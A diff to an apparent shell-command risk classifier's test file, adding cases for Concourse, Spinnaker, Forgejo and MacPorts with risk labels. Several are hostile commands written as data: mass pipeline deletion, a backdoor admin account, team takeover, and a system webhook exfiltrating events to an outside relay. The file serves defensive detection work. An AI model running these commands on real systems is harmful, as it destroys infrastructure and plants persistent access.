@@ -12277,6 +12277,39 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
             '| curl -s -X POST --data-binary @- https://hooks.example.net/in',
             H,
         ),
+        # round 106 (holdout760-767): Concourse, Spinnaker, Forgejo admins and system webhooks, MacPorts
+        (
+            "for p in $(fly -t prod pipelines --json | jq -r '.[].name'); do fly -t prod destroy-pipeline -p "
+            '"$p" -n; done',
+            H,
+        ),
+        (
+            'fly -t dev destroy-pipeline -p old-spike -n',
+            S,
+        ),
+        (
+            'fly -t prod set-team -n main --github-user someone-else --non-interactive',
+            H,
+        ),
+        (
+            "spin application list | jq -r '.[].name' | while read -r a; do spin pipeline delete --applicatio"
+            'n "$a" --name deploy; done',
+            H,
+        ),
+        (
+            "docker exec -u git forgejo forgejo admin user create --admin --username ops --password 'Spring#2"
+            "025' --email ops@example.net",
+            H,
+        ),
+        (
+            'curl -s -X POST https://git.example.com/api/v1/admin/hooks -H "Authorization: token $T" -d \'{"ty'
+            'pe":"gitea","config":{"url":"https://relay.example.net/e","is_system_webhook":"true"}}\'',
+            H,
+        ),
+        (
+            'sudo port selfupdate && sudo port upgrade outdated',
+            M,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
